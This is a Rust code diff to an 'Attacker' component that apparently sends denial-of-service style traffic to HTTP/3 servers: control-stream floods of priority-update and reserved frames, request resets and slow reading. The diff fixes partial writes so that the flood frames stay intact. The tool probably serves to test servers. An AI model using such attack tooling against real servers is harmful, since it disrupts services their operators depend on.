@@ -161,6 +161,8 @@ struct Attacker<'a> {
     control: Option<StreamId>,
     /// Requests that were sent and are to be reset.
     open: Vec<StreamId>,
+    /// Frames of the control stream that are not written.
+    pending: Vec<u8>,
     is_begun: bool,
     buffer: Vec<u8>,
     received: Vec<u8>,
@@ -186,6 +188,7 @@ impl Attacker<'_> {
             handle,
             control: None,
             open: Vec::new(),
+            pending: Vec::new(),
             is_begun: false,
             buffer: Vec::new(),
             received: vec![0; DATAGRAM_BYTES_MAX],
@@ -288,12 +291,15 @@ impl Attacker<'_> {
                 }
             }
             Attack::Control => {
-                let mut frames = Vec::new();
-                for number in 0..FRAMES as u64 {
-                    priority_update(&mut frames, number * 4);
-                    reserved_frame(&mut frames);
+                if self.pending.is_empty() {
+                    for number in 0..FRAMES as u64 {
+                        priority_update(&mut self.pending, number * 4);
+                        reserved_frame(&mut self.pending);
+                    }
                 }
-                self.write(self.control, &frames);
+                let pending = std::mem::take(&mut self.pending);
+                let written = self.write(self.control, &pending);
+                self.pending = pending.get(written..).unwrap_or_default().to_vec();
             }
             Attack::SlowReader if self.is_begun => {}
             Attack::SlowReader => {
@@ -311,11 +317,9 @@ impl Attacker<'_> {
         Ok(())
     }
 
-    /// Writes as much as fits; a cut frame goes on with the next piece, which makes it another one.
-    fn write(&mut self, stream: Option<StreamId>, bytes: &[u8]) {
-        if let Some(stream) = stream {
-            let _ = self.connection.send_stream(stream).write(bytes);
-        }
+    /// Writes as much as fits; returns its length.
+    fn write(&mut self, stream: Option<StreamId>, bytes: &[u8]) -> usize {
+        stream.map_or(0, |stream| self.connection.send_stream(stream).write(bytes).unwrap_or(0))
     }
 }
 
